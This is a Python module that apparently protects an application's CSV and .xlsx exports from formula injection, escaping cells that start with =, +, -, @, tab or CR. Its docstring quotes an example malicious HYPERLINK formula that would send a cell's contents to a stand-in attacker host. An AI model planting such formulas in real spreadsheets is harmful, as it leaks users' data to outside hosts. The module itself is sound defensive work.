"""Cells of the spreadsheets and CSV files Huiying writes: text people typed stays text, never a formula.

A case titled `=HYPERLINK("http://evil.example/?"&A2,"点此查看")` must not become a live formula in the office's
Excel or WPS (issue 28 #3). Every writer of a .csv or .xlsx goes through these two functions.
"""

from __future__ import annotations

from typing import Any

#: What spreadsheets read as the start of a formula (=, +, -, @), and tab and CR, which some of them skip
#: before looking at the next character.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(text: str) -> bool:
    """Would a spreadsheet evaluate this text if it were typed into a cell?"""
    return text.startswith(FORMULA_STARTS)


def csv_text(value: Any) -> str:
    """A CSV cell a spreadsheet will not run: formula-like text gets a leading apostrophe, which they hide."""
    text = "" if value is None else str(value)
    return "'" + text if formula_like(text) else text


def xlsx_text(sheet: Any, text: str) -> Any:
    """A write-only .xlsx cell holding `text` exactly, as a string whatever it starts with.

    openpyxl would store text starting with "=" as a formula; a string cell is never evaluated, and its
    quote prefix (Excel's own mark for text typed with a leading apostrophe) keeps it text when someone edits it.
    """
    # openpyxl is imported when a workbook is made, not with the app (see cases/report.py)
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    if formula_like(text):
        cell.quotePrefix = True
    return cell
